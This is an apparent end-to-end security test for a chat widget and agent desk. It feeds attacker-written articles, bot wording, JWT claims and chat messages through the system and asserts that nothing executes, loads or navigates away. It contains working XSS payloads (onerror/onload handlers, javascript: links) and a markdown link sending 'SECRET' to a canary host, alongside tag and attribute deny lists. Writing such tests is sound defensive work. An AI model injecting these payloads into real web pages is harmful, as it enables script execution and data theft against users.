import { createHmac } from 'node:crypto'
import { once } from 'node:events'
import { mkdtemp, rm } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type RunningGateway, startGateway } from '@baton/box/gateway'
import { CANARY, inventoryOf, PAYLOADS } from '@baton/client/testing/payloads'
import type { Pack, ProvisionRequest, ProvisionResponse } from '@baton/protocol'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launch, waitForText } from './browser.ts'

const SECRETS = {
  gateway: 'of this journey only, forty characters long',
  admin: 'also of this journey only, quite long',
  objects: 'journey',
}
const PASSWORD = 'a password of this journey only'
const HOST_KEY = 'a key of this journey only, long enough to sign with'
const MESSAGE_CHARS = 3_500

/** Payloads put together until a message is full: all of them pass the sockets, and few messages are needed. */
const MESSAGES = PAYLOADS.filter((text) => text.length < 300 && text.trim() !== '').reduce<string[]>(
  (messages, text) => {
    const last = messages.at(-1) ?? ''
    if (messages.length > 0 && last.length + text.length < MESSAGE_CHARS)
      messages[messages.length - 1] = `${last}\n${text}`
    else messages.push(text)
    return messages
  },
  [],
)
const EVIL = '<img src=x onerror="window.__owned=1">'
const LINK = `![a][r]\n[r]: https://${CANARY}/?d=SECRET`

const said = (text: string) => ({ en: text, 'zh-CN': text, 'zh-TW': text })

/** A pack whose writer is the attacker: article, intent, rule and every word of the bot. */
const pack: Pack = {
  id: 'evil',
  articles: [
    {
      id: 'returns',
      locale: 'en',
      title: `Returns ${EVIL}`,
      scene: 'after-sale',
      questions: ['Can I return it?', 'How do I send it back?'],
      body: `Send it back ${EVIL} within 30 days. ${LINK} [click](javascript:window.__owned=1) <svg onload=window.__owned=1>`,
      audience: 'public',
    },
  ],
  intents: [
    {
      id: 'returns',
      name: said(EVIL),
      phrasings: {
        en: ['can i return it', 'how do i send it back', 'return policy'],
        'zh-CN': ['退货', '怎么退货', '退货政策'],
        'zh-TW': ['退貨', '怎麼退貨', '退貨政策'],
      },
      serve: { article: 'returns' },
      tags: [],
    },
  ],
  flows: [],
  rules: [
    {
      id: 'C1',
      name: said(EVIL),
      enabled: true,
      at: 'reading',
      when: { fact: 'customer.wantsPerson', is: 'equal', value: true },
      mode: 'immediate',
      priority: 0,
      window: {},
      cooldownS: 0,
      alert: false,
      reason: 'asked',
    },
  ],
  actions: [],
  entities: [],
  wording: Object.fromEntries(
    [
      'greeting',
      'abstain',
      'clarify',
      'handoffAsked',
      'handoffMood',
      'handoffStuck',
      'offerPerson',
      'personButton',
      'actionDown',
      'handedBack',
      'sorry',
    ].map((key) => [key, said(`${key} ${EVIL}`)]),
  ) as Omit<Pack['wording'], 'variants'>,
}

let folder = ''
let gateway: RunningGateway
let shop: Server
let shopUrl = ''
let siteKey = ''
/** The widget as a careful site loads it: this very build, by its hash. */
let pinned: { path: string; files: Record<string, string> }
let browser: Browser
beforeAll(async () => {
  browser = await launch()
  folder = await mkdtemp(join(tmpdir(), 'baton-hostile-'))
  gateway = await startGateway({ port: 0, folder, secrets: SECRETS, log: () => undefined })
  pinned = (await (await fetch(`${gateway.url}/widget/integrity.json`)).json()) as typeof pinned
  const token = hostToken()
  shop = createServer((request, response) => {
    if (request.url === '/page.js')
      return response.writeHead(200, { 'content-type': 'text/javascript' }).end(pageScript(token))
    response
      .writeHead(200, { 'content-type': 'text/html', 'content-security-policy': policyFor(gateway.url) })
      .end(pageFor())
  }).listen(0, '127.0.0.1')
  await once(shop, 'listening')
  shopUrl = `http://127.0.0.1:${(shop.address() as AddressInfo).port}`
  siteKey = await provision()
})
afterAll(async () => {
  await browser?.close()
  await gateway?.stop()
  shop?.close()
  await rm(folder, { recursive: true, force: true })
})

/** What the shop's own server would sign of a customer who chose their name well. */
function hostToken(): string {
  const now = Math.floor(Date.now() / 1_000)
  const claims = {
    sub: 'mallory',
    name: `Mallory ${EVIL}`,
    tier: '<svg onload=window.__owned=1>',
    note: EVIL,
    [EVIL]: LINK,
    aud: 'baton',
    iat: now,
    exp: now + 3_600,
  }
  const parts = [{ alg: 'HS256', typ: 'JWT' }, claims].map((part) =>
    Buffer.from(JSON.stringify(part)).toString('base64url'),
  )
  return [...parts, createHmac('sha256', HOST_KEY).update(parts.join('.')).digest('base64url')].join('.')
}

const policyFor = (url: string): string =>
  [
    "default-src 'none'",
    `script-src 'self' ${url}`,
    "style-src 'none'",
    `connect-src 'self' ${url} ${url.replace('http', 'ws')}`,
    "base-uri 'none'",
    "form-action 'none'",
    "require-trusted-types-for 'script'",
    'trusted-types baton',
  ].join('; ')

const pageFor = (): string =>
  `<!doctype html><html lang="en"><title>Shop</title><script src="/page.js"></script><script async src="${gateway.url}${pinned.path}baton.js" integrity="${pinned.files['baton.js']}" crossorigin="anonymous" data-site-key="${siteKey}"></script><h1>Shop</h1></html>`

const pageScript = (token: string): string =>
  `window.Baton = function () { (window.Baton.q ??= []).push(arguments) }; Baton('identify', async () => '${token}'); Baton('open')`

async function provision(): Promise<string> {
  const body = {
    workspace: 'hostile',
    business: `Shop ${EVIL}`,
    locale: 'en',
    origins: [shopUrl],
    hostKey: HOST_KEY,
    businessApi: { url: 'http://127.0.0.1:9', token: 'nobody' },
    agents: [
      {
        id: 'lin',
        name: `Lin ${EVIL}`,
        email: 'lin@hostile.example',
        password: PASSWORD,
        role: 'agent',
        capacity: 4,
        locales: ['en'],
      },
    ],
    settings: { offerMs: 60_000, graceMs: 5_000, caseIdleMs: 1_800_000, reopenMs: 86_400_000, turnMs: 15_000 },
    pack,
  } satisfies ProvisionRequest
  const answer = await fetch(`${gateway.url}/v1/admin/workspaces/hostile?wait=50`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${SECRETS.admin}` },
    body: JSON.stringify(body),
  })
  if (!answer.ok) throw new Error(`not provisioned: ${await answer.text()}`)
  return ((await answer.json()) as ProvisionResponse).siteKey
}

/** A page that is watched: what it asks for, what its policy refuses, what it says and what it throws. */
async function watched(url: string): Promise<{ page: Page; context: BrowserContext; incidents: string[] }> {
  const context = await browser.newContext({ locale: 'en', viewport: { width: 1440, height: 900 } })
  const page = await context.newPage()
  const incidents: string[] = []
  await context.exposeFunction('tellIncident', (what: string) => incidents.push(what))
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      const { tellIncident } = globalThis as unknown as { tellIncident(what: string): void }
      tellIncident(`policy: ${violatedDirective} ${blockedURI} ${sample}`)
    })
  })
  const allowed = [new URL(shopUrl).host, new URL(gateway.url).host]
  await context.route(
    ({ protocol, host }) => /^(https?|wss?):$/.test(protocol) && !allowed.includes(host),
    (route) => {
      incidents.push(`request: ${route.request().url()}`)
      return route.abort()
    },
  )
  page.on('dialog', (dialog) => {
    incidents.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('pageerror', (error) => incidents.push(`error: ${error.message}`))
  context.on('page', (other) => other !== page && incidents.push(`window: ${other.url()}`))
  page.on('framenavigated', (frame) => frame !== page.mainFrame() && incidents.push(`frame: ${frame.url()}`))
  await page.goto(url)
  return { page, context, incidents }
}

const NEVER = [
  'iframe',
  'frame',
  'object',
  'embed',
  'applet',
  'base',
  'img',
  'image',
  'video',
  'audio',
  'portal',
  'fencedframe',
  'marquee',
  'math',
  'foreignobject',
  'animate',
  'set',
  'use',
  'xss',
  'x',
]

async function expectHarmless(
  { page, incidents }: { page: Page; incidents: string[] },
  scripts: number,
): Promise<void> {
  const { tags, attributes, hrefs } = await page.evaluate(
    `(${inventoryOf.toString()})(document)` as unknown as () => ReturnType<typeof inventoryOf>,
  )
  expect(tags.filter((tag) => NEVER.includes(tag))).toEqual([])
  expect(attributes.filter((name) => /^on|^srcdoc$|^srcset$|^formaction$|^ping$/.test(name))).toEqual([])
  expect(await page.locator('script').count()).toBe(scripts)
  // The desk's own page names its style sheet and icon by path.
  const links = hrefs.filter((href) => !/^\.\/assets\//.test(href))
  expect(links.filter((href) => !/^(https:\/\/|mailto:|tel:)/.test(href))).toEqual([])
  expect(await page.evaluate('window.__owned')).toBeUndefined()
  expect(incidents).toEqual([])
}

test('T-01 T-02 T-03 from a pinned script on, nothing a customer, an agent, a pack or a profile says runs, loads or leads away, from socket to screen', async () => {
  expect(MESSAGES.join('\n').length).toBeGreaterThan(10_000)
  const shopper = await watched(shopUrl)
  const widget = shopper.page.locator('baton-widget')
  const box = widget.getByRole('textbox', { name: 'Your message' })
  const say = async (text: string): Promise<void> => {
    await box.fill(text)
    await box.press('Enter')
  }
  await box.waitFor()
  await say('How do I send it back?')
  await waitForText(widget, /within 30 days/, 20_000)

  const desk = await watched(`${gateway.url}/desk/?workspace=hostile`)
  await desk.page.getByLabel('Email').fill('lin@hostile.example')
  await desk.page.getByLabel('Password').fill(PASSWORD)
  await desk.page.keyboard.press('Enter')
  await desk.page.getByRole('heading', { name: 'Offers' }).waitFor()
  await say('agent please')
  await desk.page.getByRole('timer').first().waitFor({ timeout: 30_000 })
  await expectHarmless(desk, 1)
  await desk.page.keyboard.press('a')
  const reply = desk.page.getByRole('tabpanel').getByRole('textbox')
  await reply.waitFor({ timeout: 20_000 })

  for (const [at, text] of MESSAGES.entries()) {
    await say(`${text}\nfrom the customer ${at}.`)
    await waitForText(desk.page.locator('baton-desk'), new RegExp(`from the customer ${at}\\.`), 20_000)
    await reply.fill(`${text}\nfrom the agent ${at}.`)
    await reply.press('Enter')
    await waitForText(widget, new RegExp(`from the agent ${at}\\.`), 20_000)
  }
  await expectHarmless(shopper, 2)
  await expectHarmless(desk, 1)

  await desk.page.keyboard.press('Alt+r')
  await desk.page.locator('desk-closing textarea').fill(`${MESSAGES[0]}\nresolved by the agent.`)
  await desk.page.keyboard.press('Control+Enter')
  await waitForText(widget, /resolved by the agent\./, 20_000)
  await expectHarmless(shopper, 2)
  await expectHarmless(desk, 1)
  // What was watched for would have been seen.
  await shopper.page.evaluate(`document.body.setAttribute('style', 'color: red')`)
  await shopper.page.evaluate(`fetch('https://${CANARY}/').catch(() => undefined)`)
  await expect.poll(() => shopper.incidents.join()).toMatch(/policy: (style|connect)-src/)
  for (const { context } of [shopper, desk]) await context.close()
})
